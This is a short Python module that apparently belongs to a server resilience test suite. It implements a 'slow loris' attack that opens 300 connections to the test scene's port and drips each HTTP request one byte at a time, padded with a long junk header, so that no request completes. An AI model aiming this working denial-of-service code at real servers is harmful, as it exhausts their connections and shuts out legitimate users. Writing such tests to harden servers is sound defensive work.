import attack
import wire
from crowd import Crowd


class Attack(attack.Attack):
    name = "slow loris"
    sentence = "Holds connections by requests that come a byte at a time and are never whole."
    options = ("--request-seconds", "1")
    is_cut = True
    connections = 300

    def scale(self, options, is_long):
        return {"connections": self.connections}

    def run(self, scene):
        def join(crowd):
            slowly = (bytes([byte]) for byte in wire.GET_CONSOLE[:-2] + b"X-Slow: " + b"o" * 4_000)
            crowd.add(wire.connect(scene.port, scene.source()), slowly, every=0.1)

        return Crowd(join, self.connections).run(scene.until)
